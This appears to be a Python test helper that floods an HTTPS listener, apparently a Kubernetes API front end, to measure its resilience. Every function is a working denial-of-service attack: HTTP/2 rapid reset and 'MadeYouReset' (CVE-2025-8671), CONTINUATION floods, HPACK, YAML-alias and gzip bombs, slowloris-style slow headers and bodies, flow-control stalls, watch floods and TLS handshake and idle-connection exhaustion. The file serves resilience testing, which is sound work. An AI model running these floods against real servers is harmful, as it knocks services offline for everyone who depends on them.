#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Attacks on a listener: flood.py KIND HOST:PORT CA [CERT KEY] [SECONDS] [PATH]

Each goes on for SECONDS or until the listener has had enough; the last line says what was sent and how it ended. No
assertion is made here: flood_* in tests/hostile watch what the listener costs and whether others are answered."""
import os
import random
import resource
import selectors
import socket
import ssl
import struct
import sys
import time

kind, address, ca = sys.argv[1:4]
cert, key = (sys.argv[4:6] + ["", ""])[:2]
seconds = float((sys.argv[6:7] or ["5"])[0])
path = (sys.argv[7:8] or ["/api/v1/namespaces"])[0]
host, port = address.rsplit(":", 1)
end = time.monotonic() + seconds
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)


def context(alpn=("h2",), version=None):
    made = ssl.create_default_context(cafile=ca)
    made.check_hostname = False
    if cert:
        made.load_cert_chain(cert, key)
    if version:
        made.maximum_version = version
    made.set_alpn_protocols(list(alpn))
    return made


def plain():
    return socket.create_connection((host, int(port)), timeout=10)


def connect(alpn=("h2",)):
    return context(alpn).wrap_socket(plain(), server_hostname="localhost")


def frame(what, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([what, flags]) + struct.pack(">I", stream) + payload


def text(value):
    assert len(value) < 127
    return bytes([len(value)]) + value.encode()


def head(target=path, more=(), method="GET"):
    fields = ((":method", method), (":scheme", "https"), (":authority", "localhost"), (":path", target), *more)
    return b"".join(b"\x10" + text(name) + text(value) for name, value in fields)


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)


def opened(settings=b""):
    connection = connect()
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return connection


def drain(connection):
    """Reads what has come; the error code of a GOAWAY, if one did."""
    connection.setblocking(False)
    try:
        while True:
            piece = connection.recv(1 << 16)
            if not piece:
                raise ConnectionError("closed")
    except (BlockingIOError, ssl.SSLWantReadError):
        pass
    finally:
        connection.settimeout(10)


def repeat(make, settings=b"", read=True):
    """Sends what make(n) gives, over a new connection whenever one ends."""
    sent = connections = refused = 0
    while time.monotonic() < end:
        try:
            connection = opened(settings)
            connections += 1
            stream = 1
            while time.monotonic() < end:
                connection.sendall(b"".join(make(stream + 2 * i) for i in range(50)))
                stream += 100
                sent += 50
                if read:
                    drain(connection)
        except (OSError, ssl.SSLError):
            refused += 1
            time.sleep(0.02)
    return f"{sent} sent over {connections} connections, {refused} ended by the listener"


def rapid_reset():
    return repeat(lambda n: frame(HEADERS, 5, n, head()) + frame(RST, 0, n, struct.pack(">I", 8)))


def made_you_reset():
    """The client breaks each stream so that the listener is who resets it (CVE-2025-8671)."""
    broken = [lambda n: frame(WINDOW, 0, n, struct.pack(">I", 0)), lambda n: frame(WINDOW, 0, n, b"\x7f\xff\xff\xff") * 2,
              lambda n: frame(DATA, 0, n, b"x"), lambda n: frame(PRIORITY, 0, n, struct.pack(">IB", n, 1)),
              lambda n: frame(HEADERS, 5, n, head())]
    return repeat(lambda n: frame(HEADERS, 5, n, head()) + broken[n // 2 % len(broken)](n))


def settings():
    return repeat(lambda n: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + n % 1000)))


def settings_unread():
    return repeat(lambda n: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + n % 1000)), read=False)


def ping():
    return repeat(lambda n: frame(PING, 0, 0, struct.pack(">Q", n)), read=False)


def priority():
    return repeat(lambda n: frame(PRIORITY, 0, n, struct.pack(">IB", 0, n % 256)))


def window_updates():
    return repeat(lambda n: frame(WINDOW, 0, 0, struct.pack(">I", 1)))


def unknown_frames():
    return repeat(lambda n: frame(200, 255, n, b"x" * 1000))


def empty_data():
    """One request whose body is empty frames without end."""
    more = (("content-type", "application/json"),)
    begin = frame(HEADERS, 4, 1, head("/api/v1/namespaces/team/configmaps", more).replace(text("GET"), text("POST")))
    return repeat(lambda n: (begin if n == 1 else b"") + frame(DATA, 0, 1))


def continuation():
    """A header block that never ends (CVE-2024-28182 and its kin)."""
    part = b"\x10" + text("x" * 20) + text("y" * 100)
    return repeat(lambda n: (frame(HEADERS, 1, 1, head()) if n == 1 else b"") + frame(CONTINUATION, 0, 1, part))


def hpack_bomb():
    """A large field goes into the dynamic table once, and is named thousands of times."""
    large = b"\x40" + text("x" * 60) + b"\x7f" + bytes([0x80 | (3900 - 127) % 128, (3900 - 127) // 128]) + b"z" * 3900

    def bomb(n):
        block = head() + (large if n == 1 else b"") + b"\xbe" * 8000
        return frame(HEADERS, 5, n, block)
    return repeat(bomb)


def many_streams():
    return repeat(lambda n: frame(HEADERS, 5, n, head(path + "?watch=1")))


def window_stall():
    """Streams whose window is nothing: whatever is answered has to wait."""
    connections, requests = [], 0
    while len(connections) < 40 and time.monotonic() < end:
        try:
            connection = opened(struct.pack(">HI", 4, 0))
            for n in range(1, 201, 2):
                connection.sendall(frame(HEADERS, 5, n, head()))
                requests += 1
            connections.append(connection)
        except (OSError, ssl.SSLError):
            time.sleep(0.05)
    alive = 0
    while time.monotonic() < end:
        time.sleep(0.2)
    for connection in connections:
        try:
            drain(connection)
            alive += 1
        except (OSError, ssl.SSLError):
            pass
    return f"{requests} requests without a window over {len(connections)} connections, {alive} still there"


def bodies_unread():
    """Bodies that are 3 MB as JSON and some KB as YAML, upstream refuses them; and nobody reads that it does."""
    body = ("metadata: {name: evil-body, finalizers: [&a " + "x" * 1000 + ", *a" * 2900 + "]}").encode()
    fields = head(more=(("content-type", "application/yaml"),), method="POST")
    connections, requests = [], 0
    while len(connections) < 12 and time.monotonic() < end:
        connection = opened(struct.pack(">HI", 4, 0))
        connections.append(connection)
        for n in range(1, 41, 2):
            connection.sendall(frame(HEADERS, 4, n, fields) + frame(DATA, 1, n, body))
            requests += 1
            time.sleep(0.03)
            drain(connection)
    while time.monotonic() < end:
        time.sleep(0.2)
    for connection in connections:
        drain(connection)
    return f"{requests} requests with a body over {len(connections)} connections"


def reader_that_stops():
    """Asks for much, again and again, and reads nothing."""
    connections, requests = [], 0
    for i in range(40):
        if time.monotonic() > end:
            break
        try:
            sock = plain()
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection = context(("h2", "http/1.1")[i % 2:][:1]).wrap_socket(sock, server_hostname="localhost")
            if i % 2:
                connection.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode() * 20)
                requests += 20
            else:
                connection.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0x7FFFFFFF)) + frame(WINDOW, 0, 0, b"\x7f\0\0\0"))
                connection.sendall(b"".join(frame(HEADERS, 5, n, head()) for n in range(1, 101, 2)))
                requests += 50
            connections.append(connection)
        except (OSError, ssl.SSLError):
            pass
    while time.monotonic() < end:
        time.sleep(0.2)
    return f"{requests} answers unread over {len(connections)} connections"


def small_answers_unread():
    """Asks for much in many small pieces, over one connection after the other that reads none."""
    connections, requests = [], 0
    while time.monotonic() < end:
        try:
            connection = opened(struct.pack(">HI", 4, 0))
            for start in range(1, 500, 50):
                connection.sendall(b"".join(frame(HEADERS, 5, n, head()) for n in range(start, start + 50, 2)))
                time.sleep(0.01)
            requests += 250
            connections.append(connection)
        except (OSError, ssl.SSLError):
            pass
    return f"{requests} answers unread over {len(connections)} connections"


def watches(most, window, selector, read, ending=False):
    """Watches by the hundred, three quarters of them of HTTP/2, while large objects change; the tenant has evil-1 to evil-20."""
    def plug():
        sock = plain()
        if not read:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        return sock
    large, opened, held, changes = "y" * 700_000, 0, [], 0

    def target():
        return f"{path}?watch=1&resourceVersion={version}" + (f"&timeoutSeconds={opened % 5 + 1}" if ending else "") + (f"&fieldSelector=metadata.name%3Devil-{opened % 20 + 1}" if selector else "")

    def answer_to(request):
        said = b""
        with connect(("http/1.1",)) as asker:
            asker.sendall(request.encode())
            while piece := asker.recv(1 << 20):
                said += piece
        return said
    version = answer_to(f"GET {path}?limit=1 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n").split(b'"resourceVersion":"')[1].split(b'"')[0].decode()

    def more():
        nonlocal opened
        try:
            if len(held) % 4 == 0:
                connection = context(("h2",)).wrap_socket(plug(), server_hostname="localhost")
                connection.sendall(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)) + frame(WINDOW, 0, 0, b"\x7f\0\0\0"))
                for n in range(1, 19, 2):
                    connection.sendall(frame(HEADERS, 5, n, head(target())))
                    opened += 1
            else:
                connection = context(("http/1.1",)).wrap_socket(plug(), server_hostname="localhost")
                connection.sendall(f"GET {target()} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
                opened += 1
            held.append(connection)
        except (OSError, ssl.SSLError):
            time.sleep(0.05)
    while opened < most // 2:
        more()
    stop = time.monotonic() + seconds
    while time.monotonic() < stop:
        body = '{"data":{"x":"%s%d"}}' % (large, changes)
        try:
            changes += answer_to(f"PATCH {path}/evil-{changes % 20 + 1 if selector else 1} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
                                 f"Content-Type: application/merge-patch+json\r\nContent-Length: {len(body)}\r\n\r\n{body}").startswith(b"HTTP/1.1 200")
        except (OSError, ssl.SSLError):
            pass
        for _ in range(20):  # in waves: what was counted of the others may be counted no more
            if opened < most:
                more()
        if read:
            for connection in held:
                try:
                    drain(connection)
                except (OSError, ssl.SSLError):
                    pass
    return f"{opened} watches over {len(held)} connections, {changes} changes"


def watches_unread():
    return watches(800, 0x7FFFFFFF, False, False)


def watches_nearly_read():
    """The window of each stream ends some kilobytes before its first event does."""
    return watches(800, 694_000, False, True)


def watches_by_name():
    """Each waits for events that hardly another one waits for."""
    return watches(400, 0x7FFFFFFF, True, False)


def watches_that_end():
    """Each ends before long and leaves what it was given unread; others come in its place."""
    return watches(1600, 0x7FFFFFFF, False, False, ending=True)


def watches_of_own_kinds():
    """One of each kind and encoding: 40 definitions of 16 versions. Connections wait for each other, so that none is refused for its haste."""
    held = []
    for accept in ("application/json", "application/json;as=PartialObjectMetadata;g=meta.k8s.io;v=v1"):
        for n in range(640):
            connection = connect(("http/1.1",))
            connection.sendall(f"GET {path.format(n // 16 + 1, n % 16 + 1)} HTTP/1.1\r\nHost: x\r\nAccept: {accept}\r\n\r\n".encode())
            held.append(connection)
    said = []
    for connection in held:
        connection.settimeout(30)
        said.append(connection.recv(12)[9:].decode())
    time.sleep(5)  # what is held is looked at meanwhile
    return f"{said.count('200')} watches, {said.count('429')} refused, of {len(said)}"


def large_objects():
    """150 requests for one at once, over and over, whose answers are read as fast as they come."""
    asked = answered = 0
    while time.monotonic() < end:
        held = []
        for _ in range(150):
            try:
                held.append(connect(("http/1.1",)))
            except (OSError, ssl.SSLError):
                time.sleep(0.05)
        for connection in held:
            connection.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
            asked += 1
        stop = time.monotonic() + 20
        while held and time.monotonic() < stop:
            for connection in list(held):
                try:
                    drain(connection)
                except (OSError, ssl.SSLError):
                    held.remove(connection)
                    answered += 1
            time.sleep(0.01)
    return f"{asked} requests for a large object, {answered} answered"


def slow_streams():
    """Requests whose bodies go on for ever, as many as a tenant may have, and pings so that nobody sleeps."""
    held, streams = [], 0
    while len(held) < 2:
        try:
            connection = opened()
            connection.sendall(b"".join(frame(HEADERS, 4, n, head()) + frame(DATA, 0, n, b" ") for n in range(1, 400, 2)))
            held.append(connection)
            streams += 200
        except (OSError, ssl.SSLError):
            time.sleep(0.05)
    while time.monotonic() < end:
        for connection in held:
            try:
                drain(connection)
                connection.sendall(frame(PING, 0, 0, b"x" * 8))
            except (OSError, ssl.SSLError):
                streams -= 200
                held.remove(connection)
        time.sleep(0.2)
    return f"{streams} bodies that go on for ever"


def slow(begin, piece, more=0):
    """Each connection says a byte now and then, and never all; for so much longer while one is left."""
    alive = []
    for _ in range(300):
        try:
            connection = connect(("http/1.1",))
            connection.sendall(begin)
            alive.append(connection)
        except (OSError, ssl.SSLError):
            pass
    made = len(alive)
    while time.monotonic() < end or (alive and time.monotonic() < end + more):
        for connection in list(alive):
            try:
                connection.sendall(piece)
            except (OSError, ssl.SSLError):
                alive.remove(connection)
        time.sleep(0.5)
    return f"{made} connections, {len(alive)} still there"


def slow_head():
    return slow(f"GET {path} HTTP/1.1\r\nHost: x\r\nX: ".encode(), b"a", 135)


def slow_body():
    return slow(b"POST /api/v1/namespaces/team/configmaps HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{", b" ")


def pipeline():
    sent = ended = 0
    while time.monotonic() < end:
        try:
            connection = connect(("http/1.1",))
            while time.monotonic() < end:
                connection.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\n\r\n".encode() * 100)
                sent += 100
        except (OSError, ssl.SSLError):
            ended += 1
    return f"{sent} requests in pipelines nobody reads, {ended} ended by the listener"


def huge_head():
    sent = ended = 0
    while time.monotonic() < end:
        try:
            connection = connect(("http/1.1",))
            connection.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\n".encode())
            while time.monotonic() < end:
                connection.sendall(b"X-Y: " + b"z" * 8000 + b"\r\n")
                sent += 8007
        except (OSError, ssl.SSLError):
            ended += 1
    return f"{sent} bytes of heads, {ended} ended by the listener"


def gzip_bomb():
    """A body that says it is compressed, a thousandfold."""
    import gzip
    bomb = gzip.compress(b'{"metadata":{"name":"evil-bomb"},"data":{"x":"' + b"0" * (16 << 20) + b'"}}', 9)
    codes = {}
    while not codes or time.monotonic() < end:
        try:
            connection = connect(("http/1.1",))
            connection.sendall(b"POST /api/v1/namespaces/team/configmaps HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\n"
                               b"Content-Encoding: gzip\r\nContent-Length: " + str(len(bomb)).encode() + b"\r\n\r\n" + bomb)
            code = connection.recv(4096)[9:12].decode()
        except (OSError, ssl.SSLError):
            code = "cut"
        codes[code] = codes.get(code, 0) + 1
    return f"{len(bomb)} bytes that mean 16 MiB, answered {codes}"


def handshakes():
    """First messages of TLS, whole and broken, and no more."""
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(505)
    made = 0
    held = []
    while time.monotonic() < end:
        try:
            sock = plain()
            sock.sendall(random.choice((hello, hello[:7], b"\x16\x03\x01\xff\xff" + hello * 30, b"GET / HTTP/1.1\r\n\r\n", os.urandom(64))))
            made += 1
            if made % 4 == 0:
                held.append(sock)
        except OSError:
            pass
    return f"{made} handshakes begun, {len(held)} left open"


def full_handshakes():
    """By several processes: one alone is the bottleneck itself."""
    counts = []
    for _ in range(int(os.environ.get("FLOOD_PROCESSES", "1"))):
        reader, writer = os.pipe()
        if os.fork() == 0:
            made, failed = shake_hands()
            os.write(writer, struct.pack(">II", made, failed))
            os._exit(0)
        os.close(writer)
        counts.append(reader)
    made, failed = (sum(each) for each in zip(*(struct.unpack(">II", os.read(reader, 8)) for reader in counts)))
    return f"{made} handshakes, {failed} failed"


def shake_hands():
    made = failed = 0
    plainly = context(("http/1.1",))
    while time.monotonic() < end:
        try:
            plainly.wrap_socket(plain(), server_hostname="localhost").close()
            made += 1
        except (OSError, ssl.SSLError):
            failed += 1
    return made, failed


def idle():
    """As many connections as the listener takes, shaken hands with, and silence."""
    wanted = int(os.environ.get("FLOOD_CONNECTIONS", "10000"))
    held, failed = [], 0
    once = context(("http/1.1",))
    begun = time.monotonic()
    while len(held) < wanted and time.monotonic() < begun + 120 and failed < 50:
        try:
            sock = plain()
            if len(held) % 20 == 0 and cert:
                sock = once.wrap_socket(sock, server_hostname="localhost")
            held.append(sock)
        except (OSError, ssl.SSLError):
            failed += 1
    print(f"{len(held)} connections held", flush=True)
    watched = selectors.DefaultSelector()
    for sock in held:
        watched.register(sock, selectors.EVENT_READ)
    gone = 0
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for ready, _ in watched.select(0.5):
            try:
                if ready.fileobj.recv(4096) == b"":
                    raise OSError
            except (BlockingIOError, ssl.SSLWantReadError):
                continue
            except OSError:
                watched.unregister(ready.fileobj)
                ready.fileobj.close()
                gone += 1
    return f"{len(held)} connections, {gone} closed by the listener, {failed} refused"


print(globals()[kind]())
